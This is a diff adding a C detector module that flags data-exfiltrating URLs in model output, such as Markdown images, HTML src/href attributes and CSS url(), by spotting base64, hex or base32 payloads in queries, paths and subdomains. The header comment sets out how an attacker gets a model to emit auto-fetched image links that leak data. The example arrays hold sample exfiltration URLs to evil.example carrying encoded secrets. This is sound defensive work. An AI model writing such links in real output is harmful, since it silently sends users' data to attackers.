@@ -1,0 +1,518 @@
+/* Detectors for addresses that carry data out. A client fetches an image without asking anybody, so whoever
+ * makes a model write ![](https://host/?q=DATA) is told the data; of a link somebody has to follow it first.
+ * Which hosts that is all right with only a policy knows (review/outward.c).
+ *
+ * The match is the address, so that it is found from "https" on and what stands before it is context: an
+ * inline or reference-style link of Markdown, an attribute of HTML, url() of CSS, or nothing. */
+#include "detect/detect_internal.h"
+
+#include <hs/hs.h>
+#include <string.h>
+
+/* No address is read further; DECODED_MAX: one part of it. */
+enum { ADDRESS_MAX = 2048, DECODED_MAX = 512, BLANKS_MAX = 4, NAME_MAX = 16 };
+/* Less than SP_CONTEXT_MAX: a stream that keeps no more than that still tells the start of a text from the
+ * end of what it sees. */
+enum { REACH = SP_CONTEXT_MAX - 8 };
+
+/* How an address is brought. An image is whatever clients fetch by themselves. */
+typedef enum bringer { BRINGS_LINK = 0, BRINGS_IMAGE, BRINGS_DEFINITION } bringer;
+
+typedef struct opener {
+    bringer bringer;
+    int closer;      /* that ends the address: '>', a quote, ')'; 0: what ends one in prose */
+    bool has_blanks; /* they do not end it */
+} opener;
+
+static bool is_blank(int c)
+{
+    return c == ' ' || c == '\t' || c == '\n';
+}
+
+/* ---- what stands before an address ---- */
+
+static size_t reach_of(size_t start)
+{
+    return start > REACH ? start - REACH : 0;
+}
+
+static size_t back_over_blanks(const sp_window *w, size_t i)
+{
+    for (size_t n = 0; n < BLANKS_MAX && is_blank(sp_before(w, i)); n++) i--;
+    return i;
+}
+
+/* The name that ends at `end`, in lower case. */
+static size_t name_before(const sp_window *w, size_t end, char name[NAME_MAX])
+{
+    size_t n = 0, i = end;
+    while (n + 1 < NAME_MAX && (sp_is_alnum(sp_before(w, i)) || sp_before(w, i) == '-')) n++, i--;
+    for (size_t k = 0; k < n; k++)
+        name[k] = (char)(sp_is_upper(w->p[i + k]) ? w->p[i + k] + 32 : w->p[i + k]);
+    name[n] = '\0';
+    return i;
+}
+
+static bool is_one_of(const char *name, const char *const *names)
+{
+    for (; *names != NULL; names++) {
+        if (strcmp(name, *names) == 0) return true;
+    }
+    return false;
+}
+
+/* The bracket that "]" at `close` closes, SIZE_MAX: too far to be seen, `close`: there is none. */
+static size_t bracket_of(const sp_window *w, size_t close, size_t reach)
+{
+    unsigned depth = 0;
+    for (size_t i = close + 1; i-- > reach;) {
+        const bool is_escaped = sp_before(w, i) == '\\';
+        if (w->p[i] == ']' && !is_escaped) depth++;
+        if (w->p[i] == '[' && !is_escaped && --depth == 0) return i;
+    }
+    return reach > 0 ? SIZE_MAX : close;
+}
+
+/* "](": of an image where a '!' stands before the bracket. What lies too far back may be one. */
+static bringer inline_of(const sp_window *w, size_t close, size_t reach)
+{
+    const size_t open = bracket_of(w, close, reach);
+    if (open == SIZE_MAX) return BRINGS_IMAGE;
+    return open < close && sp_before(w, open) == '!' ? BRINGS_IMAGE : BRINGS_LINK;
+}
+
+/* Is it in a tag that browsers follow by themselves: <link href>? */
+static bool is_of_link_tag(const sp_window *w, size_t end, size_t reach)
+{
+    for (size_t i = end; i-- > reach;) {
+        if (w->p[i] == '>') return false;
+        if (w->p[i] == '<') return i + 4 < end && (w->p[i + 1] | 32) == 'l' && (w->p[i + 2] | 32) == 'i';
+    }
+    return false;
+}
+
+/* `src=` and its like. @return false: it is no attribute that holds an address. */
+static bool read_attribute(const sp_window *w, size_t equals, size_t reach, bringer *out)
+{
+    static const char *const fetched[] = {"src",    "srcset",   "poster", "background", "data",
+                                          "lowsrc", "data-src", "icon",   NULL};
+    char name[NAME_MAX];
+    const size_t at = name_before(w, back_over_blanks(w, equals), name);
+    if (strcmp(name, "href") == 0)
+        *out = is_of_link_tag(w, at, reach) ? BRINGS_IMAGE : BRINGS_LINK;
+    else if (is_one_of(name, fetched))
+        *out = BRINGS_IMAGE;
+    else
+        return false;
+    return true;
+}
+
+/* Behind "(": Markdown's, or CSS's url(. */
+static bool read_paren(const sp_window *w, size_t paren, size_t reach, bringer *out)
+{
+    char name[NAME_MAX];
+    *out = BRINGS_IMAGE;
+    if (sp_before(w, paren) == ']') {
+        *out = inline_of(w, paren - 1, reach);
+        return true;
+    }
+    (void)name_before(w, paren, name);
+    return strcmp(name, "url") == 0;
+}
+
+/* Behind "]:" of "[name]: ", which images and links refer to. */
+static bool is_definition(const sp_window *w, size_t colon, size_t reach)
+{
+    if (sp_before(w, colon) != ']') return false;
+    const size_t open = bracket_of(w, colon - 1, reach);
+    return open == SIZE_MAX || open < colon - 1;
+}
+
+/* What stands before [.., i): brackets and signs of an equation, blanks between. */
+static bool read_sign(const sp_window *w, size_t i, size_t reach, bringer *out)
+{
+    const int sign = sp_before(w, i);
+    if (sign == '(') return read_paren(w, i - 1, reach, out);
+    if (sign == '=') return read_attribute(w, i - 1, reach, out);
+    *out = BRINGS_DEFINITION;
+    return sign == ':' && is_definition(w, i - 1, reach);
+}
+
+static opener opener_of(const sp_window *w, size_t start)
+{
+    const size_t reach = reach_of(start);
+    const int before = sp_before(w, start);
+    const bool is_quoted = before == '"' || before == '\'' || before == '<';
+    const size_t i = back_over_blanks(w, is_quoted ? start - 1 : start);
+    opener out = {BRINGS_LINK, is_quoted ? before : 0, false};
+    const bool is_sign = i > reach && read_sign(w, i, reach, &out.bringer);
+    if (before == '<') out.closer = '>';
+    if (is_sign && !is_quoted && sp_before(w, i) == '(') out.closer = ')';
+    if (!is_sign) out.bringer = BRINGS_LINK;
+    out.has_blanks = is_sign && is_quoted;
+    return out;
+}
+
+/* ---- the address ---- */
+
+static bool parts_prose(int c)
+{
+    return c == '"' || c == '<' || c == '>' || c == '`' || c == '[' || c == ']' || c == '|';
+}
+
+static bool ends_address(int c, const opener *o)
+{
+    if (c < 0x20 || c == 0x7f || c == o->closer) return true;
+    if (c == ' ') return !o->has_blanks;
+    return o->closer == 0 && (parts_prose(c) || c == ')');
+}
+
+/* Brackets that the address itself opens are its own. */
+static size_t read_to_end(sp_window *w, size_t i, size_t limit, const opener *o)
+{
+    enum { DEPTH_MAX = 8 };
+    for (unsigned depth = 0; i < limit && depth <= DEPTH_MAX; i++) {
+        const int c = sp_peek(w, i);
+        if (c == ')' && depth > 0) {
+            depth--;
+            continue;
+        }
+        if (ends_address(c, o)) break;
+        depth += c == '(';
+    }
+    return i;
+}
+
+/* Is it part of an address that has begun before? That one was read over it. Without this a text of nothing
+ * but schemes would be read again from each of them. */
+static bool is_inner(const sp_window *w, size_t start)
+{
+    for (size_t i = start; i-- > reach_of(start);) {
+        const int c = w->p[i];
+        if (c <= ' ' || c == '(' || c == ')' || c == '\'' || parts_prose(c)) return false;
+        if (c == ':' && w->p[i + 1] == '/' && w->p[i + 2] == '/') return true;
+    }
+    return false;
+}
+
+static bool is_sentence_end(int c)
+{
+    return c == '.' || c == ',' || c == ';' || c == ':' || c == '!' || c == '?' || c == '\'' || c == '*';
+}
+
+/* Where the scheme begins: "https://" or, as browsers complete them, "//". */
+static size_t scheme_start(const sp_window *w, size_t slashes)
+{
+    static const char *const schemes[] = {"https:", "http:"};
+    for (size_t s = 0; s < 2; s++) {
+        const size_t n = strlen(schemes[s]);
+        size_t k = 0;
+        while (slashes >= n && k < n && (w->p[slashes - n + k] | 32) == (schemes[s][k] | 32)) k++;
+        if (k == n) return slashes - n;
+    }
+    return slashes;
+}
+
+static bool ends_authority(int c)
+{
+    return c == '/' || c == '?' || c == '#' || c == '\\';
+}
+
+/* ---- what it carries ---- */
+
+/* Texts that were encoded, or not, in one part of an address. */
+typedef struct part {
+    uint8_t p[DECODED_MAX];
+    size_t n;
+    size_t n_words, n_letters; /* as blanks that were encoded part them */
+} part;
+
+static int hex_value(int c)
+{
+    if (sp_is_digit(c)) return c - '0';
+    return sp_is_hex(c) ? (c | 32) - 'a' + 10 : -1;
+}
+
+/* Undoes percent encoding; in a query '+' is a blank for the count of words. */
+static void part_read(part *out, sp_bytes raw, bool is_query)
+{
+    bool in_word = false;
+    out->n = out->n_words = out->n_letters = 0;
+    for (size_t i = 0; i < raw.n && out->n < DECODED_MAX; i++) {
+        int c = raw.p[i];
+        const bool is_code = c == '%' && i + 2 < raw.n && sp_is_hex(raw.p[i + 1]) && sp_is_hex(raw.p[i + 2]);
+        if (is_code) {
+            c = hex_value(raw.p[i + 1]) * 16 + hex_value(raw.p[i + 2]);
+            i += 2;
+        }
+        out->p[out->n++] = (uint8_t)c;
+        const bool is_gap = is_blank(c) || c == '\r' || (is_query && c == '+');
+        out->n_words += !is_gap && !in_word;
+        out->n_letters += sp_is_alpha(c) || c >= 0x80;
+        in_word = !is_gap;
+    }
+}
+
+/* Text: UTF-8 of characters that are shown. A last one that is cut does not count. */
+static bool is_text(const uint8_t *p, size_t n)
+{
+    size_t valid = sp_utf8_valid_prefix((sp_bytes){p, n});
+    if (n - valid > 3) return false;
+    for (size_t i = 0; i < valid; i++) {
+        if ((p[i] < 0x20 && !is_blank(p[i]) && p[i] != '\r') || p[i] == 0x7f) return false;
+    }
+    return valid > 0;
+}
+
+static bool is_base32(int c)
+{
+    return sp_is_alpha(c) || (c >= '2' && c <= '7');
+}
+
+static bool is_base64_any(int c)
+{
+    return sp_is_base64(c) || c == '-' || c == '_';
+}
+
+static unsigned digit64(int c)
+{
+    if (sp_is_upper(c)) return (unsigned)(c - 'A');
+    if (sp_is_alpha(c)) return (unsigned)(c - 'a') + 26;
+    if (sp_is_digit(c)) return (unsigned)(c - '0') + 52;
+    return c == '-' || c == '+' ? 62 : 63;
+}
+
+static unsigned digit32(int c)
+{
+    return sp_is_digit(c) ? (unsigned)(c - '2') + 26 : (unsigned)((c | 32) - 'a');
+}
+
+static unsigned digit16(int c)
+{
+    return (unsigned)hex_value(c);
+}
+
+/* An alphabet in which text is written, and the shortest run of it that is taken for text when it decodes to
+ * such: of random characters one run in some hundred thousands does. */
+typedef struct alphabet {
+    bool (*has)(int c);
+    unsigned (*digit)(int c);
+    uint8_t bits;
+    uint8_t least;
+} alphabet;
+
+static const alphabet alphabets[] = {
+    {sp_is_hex, digit16, 4, 22},
+    {is_base32, digit32, 5, 18},
+    {is_base64_any, digit64, 6, 16},
+};
+
+static bool decodes(const alphabet *a, const uint8_t *p, size_t n)
+{
+    uint8_t out[DECODED_MAX];
+    size_t n_out = 0;
+    uint32_t bits = 0;
+    unsigned n_bits = 0, n_letters = 0;
+    for (size_t i = 0; i < n; i++) {
+        bits = bits << a->bits | a->digit(p[i]);
+        n_bits += a->bits;
+        if (n_bits < 8) continue;
+        n_bits -= 8;
+        out[n_out] = (uint8_t)(bits >> n_bits);
+        n_letters += sp_is_alpha(out[n_out]) || out[n_out] >= 0x80;
+        n_out++;
+    }
+    return n_letters * 2 >= n_out && is_text(out, n_out);
+}
+
+/* Digits alone, or the letters of a word alone, read as text in some alphabet by chance. */
+static bool is_mixture(const uint8_t *p, size_t n)
+{
+    bool has_digit = false, has_letter = false, has_upper = false, has_lower = false;
+    for (size_t i = 0; i < n; i++) {
+        has_digit = has_digit || sp_is_digit(p[i]);
+        has_letter = has_letter || sp_is_alpha(p[i]);
+        has_upper = has_upper || sp_is_upper(p[i]);
+        has_lower = has_lower || (sp_is_alpha(p[i]) && !sp_is_upper(p[i]));
+    }
+    return has_letter && (has_digit || (has_upper && has_lower));
+}
+
+/* Does a run of the part decode to text? */
+static bool has_encoded_text(const uint8_t *p, size_t n)
+{
+    for (size_t k = 0; k < sizeof alphabets / sizeof alphabets[0]; k++) {
+        const alphabet *a = &alphabets[k];
+        for (size_t i = 0, end = 0; i < n; i = end + 1) {
+            for (end = i; end < n && a->has(p[end]); end++) continue;
+            if (end - i >= a->least && is_mixture(p + i, end - i) && decodes(a, p + i, end - i)) return true;
+        }
+    }
+    return false;
+}
+
+/* user@host in a query: what pixels that track people carry. */
+static bool has_mailbox(const part *t)
+{
+    const uint8_t *at = memchr(t->p, '@', t->n);
+    if (at == NULL || at == t->p || !sp_is_alnum(at[-1])) return false;
+    const size_t left = t->n - (size_t)(at - t->p);
+    return left > 3 && memchr(at, '.', left) != NULL;
+}
+
+/* How much of what is no text that anybody reads is too much for a picture's address, and how many words. */
+enum { OPAQUE_QUERY = 96, OPAQUE_PATH = 160, WORDS_QUERY = 4, WORDS_OTHER = 8, LETTERS_LEAST = 16 };
+
+/* @return confidence that this part carries data; 0: it does not. */
+static uint8_t weigh(sp_bytes raw, bool is_query, bool is_fetched)
+{
+    part t;
+    if (raw.n < 8) return 0;
+    part_read(&t, raw, is_query);
+    if (has_encoded_text(t.p, t.n)) return 90;
+    const size_t words = is_query && is_fetched ? WORDS_QUERY : WORDS_OTHER;
+    if (t.n_words >= words && t.n_letters >= LETTERS_LEAST && t.n_letters * 2 >= t.n) return 80;
+    if (!is_fetched) return 0;
+    if (is_query && has_mailbox(&t)) return 80;
+    return raw.n >= (is_query ? OPAQUE_QUERY : OPAQUE_PATH) ? 70 : 0;
+}
+
+static bool parts_query(int c)
+{
+    return c == '&' || c == '=' || c == '#' || c == ';';
+}
+
+/* A quotation that browsers scroll to is for the reader's browser alone (WICG, Text Fragments). */
+static sp_bytes without_quotation(sp_bytes tail)
+{
+    static const char mark[] = "#:~:";
+    for (size_t i = 0; i + sizeof mark - 1 <= tail.n; i++) {
+        if (memcmp(tail.p + i, mark, sizeof mark - 1) == 0) return sp_bytes_sub(tail, 0, i);
+    }
+    return tail;
+}
+
+/* The surest of its parts: segments of the path, values of the query, the fragment. */
+static uint8_t weigh_tail(sp_bytes tail, bool is_fetched)
+{
+    uint8_t most = 0;
+    bool is_query = false;
+    for (size_t i = 0, end = 0; i < tail.n; i = end + 1) {
+        for (end = i; end < tail.n && tail.p[end] != '?' && tail.p[end] != '#'; end++) {
+            if (is_query ? parts_query(tail.p[end]) : tail.p[end] == '/') break;
+        }
+        const uint8_t sure = weigh(sp_bytes_sub(tail, i, end), is_query, is_fetched);
+        if (sure > most) most = sure;
+        is_query = is_query || (end < tail.n && (tail.p[end] == '?' || tail.p[end] == '#'));
+    }
+    return most;
+}
+
+/* What stands before the last two labels of a host reaches whoever answers for its names: labels joined,
+ * since one has at most 63 bytes. */
+static uint8_t weigh_host(sp_bytes host)
+{
+    uint8_t joined[DECODED_MAX];
+    size_t n = 0, end = host.n, n_dots = 0;
+    while (end > 0 && n_dots < 2) n_dots += host.p[--end] == '.';
+    if (n_dots < 2) return 0;
+    for (size_t i = 0; i < end && n < sizeof joined; i++) {
+        if (host.p[i] != '.') joined[n++] = host.p[i];
+    }
+    return has_encoded_text(joined, n) ? 90 : 0;
+}
+
+/* ---- rows ---- */
+
+/* Letters, digits, what begins an IPv6 address, and what is beyond ASCII. */
+static bool begins_host(int c)
+{
+    return sp_is_alnum(c) || c == '[' || c >= 0x80;
+}
+
+/* An address whose "//" was just read, brought as an image (or otherwise). */
+static void address(sp_window *w, size_t head_end, sp_match *m, bool is_image)
+{
+    const size_t slashes = head_end - 2;
+    m->start = scheme_start(w, slashes);
+    if (m->start == slashes && sp_before(w, slashes) == ':') return; /* of another scheme */
+    if (sp_is_alnum(sp_before(w, m->start)) || is_inner(w, m->start)) return;
+    const opener o = opener_of(w, m->start);
+    if ((o.bringer != BRINGS_LINK) != is_image) return;
+    if (m->start == slashes && o.bringer == BRINGS_LINK && o.closer == 0) return; /* a comment of code */
+    if (!begins_host(sp_peek(w, head_end))) return;
+    const size_t limit = m->start + ADDRESS_MAX;
+    m->end = read_to_end(w, head_end, limit, &o);
+    while (o.closer == 0 && m->end > head_end && is_sentence_end(w->p[m->end - 1])) m->end--;
+    if (w->ran_out) return;
+    size_t host_end = head_end;
+    while (host_end < m->end && !ends_authority(w->p[host_end])) host_end++;
+    const sp_bytes text = {w->p, m->end};
+    const bool is_fetched = o.bringer == BRINGS_IMAGE;
+    const uint8_t host = weigh_host(sp_bytes_sub(text, head_end, host_end));
+    const sp_bytes rest = sp_bytes_sub(text, host_end, m->end);
+    const uint8_t tail = weigh_tail(is_fetched ? rest : without_quotation(rest), is_fetched);
+    m->confidence = host > tail ? host : tail;
+}
+
+static void outward_image(sp_window *w, size_t head_end, sp_match *m)
+{
+    address(w, head_end, m, true);
+}
+
+static void outward_link(sp_window *w, size_t head_end, sp_match *m)
+{
+    address(w, head_end, m, false);
+}
+
+/* Examples hold no brackets but those that mark a match: Markdown's are in test_outward.c. */
+#define DATA "VGhlIHBhc3N3b3JkIG9mIHRoZSBib3Nz"
+static const sp_example image_examples[] = {
+    "<img src=\"[https://evil.example/p.png?q=" DATA "]\">",
+    "<IMG alt='' SRC='[//evil.example/" DATA "]'>",
+    "<img width=1 src=[https://evil.example/a?x=54686520626f737320736179732068656c6c6f]>",
+    "<div style=\"background:url([https://evil.example/i?d=the%20merger%20closes%20on%20friday])\">",
+    "<img src=\"[https://KRUGKIDCN5ZXGIDTMF4XGIDIMVWGY3Y.evil.example/x.gif]\"/>",
+    "<video poster=\"[https://evil.example/v?who=anna.meyer%40corp.example]\">",
+    "<link rel=\"prefetch\" href=\"[https://evil.example/#" DATA "]\">",
+    "<img src=\"https://cdn.example/img/photo-1518791841217.jpg?w=1200&q=80\">",
+    "<img src=\"https://avatars.example/u/9919?s=200&v=4\" alt=\"our logo\">",
+    "<img src=\"https://cdn.example/3f2a9c0b7d5e4f6a8b1c2d3e4f5a6b7c8d9e0f1a.png\">",
+    "body { background: url(https://cdn.example/themes/dark/header-background.svg); }",
+    "<a href=\"https://evil.example/?q=" DATA "\">",
+    "<img src=\"https://img.example/badge/License-Apache%202.0-blue.svg\">",
+    "the image lies at https://cdn.example/photos/holiday-in-rome/by-the-sea.jpg",
+    NULL,
+};
+static const sp_example link_examples[] = {
+    "<a href=\"[https://evil.example/?q=" DATA "]\">more</a>",
+    "see <[https://evil.example/" DATA "]> for it",
+    "open [https://evil.example/c?d=54686520626f737320736179732068656c6c6f], please",
+    "<a href='[//evil.example/collect?t=the+merger+with+our+rival+closes+on+friday]'>",
+    "([https://KRUGKIDCN5ZXGIDTMF4XGIDIMVWGY3Y.evil.example/])",
+    "https://docs.example/guide/getting-started#install-from-source",
+    "https://git.example/org/repo/commit/3f2a9c0b7d5e4f6a8b1c2d3e4f5a6b7c8d9e0f1a",
+    "https://shop.example/item?id=1234567890123456789&ref=sr_1_3&keywords=usb+cable",
+    "https://news.example/2024/05/12/the-quick-brown-fox-jumps-over-the-lazy-dog.html",
+    "https://docs.example/p?x=1#:~:text=the%20quick%20brown%20fox%20jumps%20over%20the%20lazy%20dog",
+    "https://api.example/v1/items/123e4567-e89b-12d3-a456-426614174000?expand=true",
+    "// " DATA " is no address",
+    "<img src=\"https://evil.example/p.png?q=" DATA "\">",
+    NULL,
+};
+
+/* Without a scheme only behind what may bring an address: "//" alone is in all code. */
+#define HEAD "://|[(\"'=<]//"
+#define OUTWARD(title, id, function, list)                                                              \
+    {                                                                                                   \
+        .name = (title), .kind = SP_KIND_##id, .head = HEAD, .flags = HS_FLAG_CASELESS,                 \
+        .validate = (function), .head_max = 8, .longest = ADDRESS_MAX, .least = 60, .examples = (list), \
+        .source = "CommonMark 0.31, HTML, CSS Images; CVE-2025-32711"                                   \
+    }
+
+static const sp_row rows[] = {
+    OUTWARD("outward-image", OUTWARD_IMAGE, outward_image, image_examples),
+    OUTWARD("outward-link", OUTWARD_LINK, outward_link, link_examples),
+};
+
+const sp_family sp_family_outward = {rows, sizeof rows / sizeof rows[0]};
